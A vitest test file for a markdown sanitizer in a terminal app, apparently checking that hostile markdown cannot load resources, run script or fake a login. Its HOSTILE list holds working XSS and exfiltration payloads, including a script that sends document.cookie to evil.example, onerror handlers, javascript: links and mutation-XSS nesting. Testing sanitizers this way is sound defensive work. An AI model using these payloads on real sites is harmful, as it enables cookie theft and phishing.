import { expect, test } from "vitest";

import { numbersOf, partsOf } from "../../src/terminal/markdown";

/** What a browser would make of the HTML of some markdown. */
function page(markdown: string): HTMLElement {
  const page = document.createElement("div");
  page.innerHTML = partsOf(markdown).map((part) => ("html" in part ? part.html : "")).join("");
  return page;
}

const HOSTILE = [
  "<script>fetch('https://evil.example?q='+document.cookie)</script>",
  "<img src=https://evil.example/p.png onerror=alert(1)>",
  "![totals](https://evil.example?q=SECRET)",
  "![x][ref]\n\n[ref]: https://evil.example/ref.png",
  "<svg><image href=https://evil.example/i.svg /><script>alert(1)</script></svg>",
  "<svg><style>@import url(https://evil.example/s.css)</style></svg>",
  "<math><mtext><table><mglyph><style><img src=https://evil.example onerror=alert(1)>",
  "<style>body{background:url(https://evil.example/b)}</style>",
  '<p style="background:url(https://evil.example/b)">x</p>',
  '<table background="https://evil.example/t"><tr><td background="https://evil.example/u">x</table>',
  '<video poster=https://evil.example/v src=https://evil.example/w></video><audio src=https://evil.example/a>',
  '<picture><source srcset="https://evil.example/s 2x"></picture>',
  '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/l.css><base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action=https://evil.example><input name=password autofocus onfocus=alert(1)><button>Log in</button></form>',
  '<a href="javascript:alert(1)">x</a> [y](javascript:alert(1)) [z](data:text/html,<script>1</script>) [v](vbscript:x)',
  '<a href="https://evil.example" ping="https://evil.example/ping" download onclick="alert(1)">x</a>',
  '<a href="//evil.example/x">scheme-relative</a> <a href="/api/v1/stop">own</a>',
  '<div id="app" name="company" class="approval open">Approve A1</div>',
  '<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>',
  '<template><img src=https://evil.example></template><noscript><img src=https://evil.example></noscript>',
  '<p data-x="1" aria-live="assertive" role="alert" tabindex="1" contenteditable>x</p>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<?xml version="1.0"?><!--><img src=https://evil.example>-->',
  "`<img src=https://evil.example>` and \\<b>",
  '[x](https://evil.example "onmouseover=alert(1)")<b style=position:fixed>y</b>',
];

const LOADING = "img,image,picture,source,video,audio,track,iframe,frame,object,embed,link,base,meta,script,style,svg,math,form,input,button,textarea,select,template,dialog";

test.each(HOSTILE)("hostile markdown can load, start and pretend nothing: %s", (markdown) => {
  const made = page(markdown);
  expect(made.querySelectorAll(LOADING)).toHaveLength(0);
  for (const element of made.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      expect(["href", "title", "align", "start", "colspan", "rowspan", "rel", "target"]).toContain(name);
      if (name === "href") expect(value).toMatch(/^(https?:\/\/|mailto:|#)/);
    }
  }
});

test("tags that may not stand are shown as words, those that may are taken without attributes", () => {
  const made = page('<img src=x onerror=y> H<sub>2</sub>O<br> <kbd class="x">a</kbd>\n\n<div onclick=z>**in**</div>');
  expect(made.textContent).toContain("<img src=x onerror=y> H2O");
  expect(made.textContent).toContain('<kbd class="x">a');
  expect(made.textContent).toContain("<div onclick=z>**in**</div>");
  expect([...made.querySelectorAll("sub,br,kbd,strong")].map((one) => one.tagName)).toEqual(["SUB", "BR"]);
});

test("a picture becomes a link that a person may follow", () => {
  const link = page("![totals](https://evil.example/?q=SECRET)").querySelector("a");
  expect(link?.textContent).toBe("image: totals (evil.example)");
});

test("a link shows its host and gives nothing away", () => {
  const link = page("[our docs](https://docs.example/a)").querySelector("a");
  expect(link?.textContent).toBe("our docs (docs.example)");
  expect(link?.rel).toBe("noopener noreferrer nofollow");
  expect(link?.target).toBe("_blank");
});

test("a link whose words are another address still shows where it goes", () => {
  expect(page("[https://bank.example](https://evil.example)").textContent).toContain("(evil.example)");
});

test("an address that stands for itself is not repeated", () => {
  expect(page("https://docs.example/a").textContent?.trim()).toBe("https://docs.example/a");
});

test("tables, emphasis, lists and quotes come through", () => {
  const made = page("**bold** *it* ~~no~~ `code`\n\n- [x] done\n- [ ] open\n\n> quote\n\n| a | b |\n|---|--:|\n| 1 | 2 |");
  expect([...made.querySelectorAll("strong,em,del,code,li,blockquote,th,td")]).toHaveLength(11);
  expect(made.querySelector("td[align=right]")?.textContent).toBe("2");
  expect(made.textContent).toContain("☑ done");
});

test("a numbered list that goes on keeps its number", () => {
  expect(page("4. fourth\n5. fifth").querySelector("ol")?.start).toBe(4);
});

test("code is text, whatever stands in it", () => {
  expect(partsOf('```html\n<img src="https://evil.example">\n```')).toEqual([{ kind: "code", language: "html", text: '<img src="https://evil.example">' }]);
});

test("a spark block is numbers, anything else in it leaves it code", () => {
  expect(partsOf("```spark\n1 2,3; -4.5e1\n```")).toEqual([{ kind: "spark", numbers: [1, 2, 3, -45] }]);
  expect(partsOf("```spark\n1 two 3\n```")[0]).toMatchObject({ kind: "code", text: "1 two 3" });
});

test.each(["", "1", "1 NaN", "1 Infinity", "1 2 x"])("no line is drawn of %j", (text) => {
  expect(numbersOf(text)).toBeNull();
});
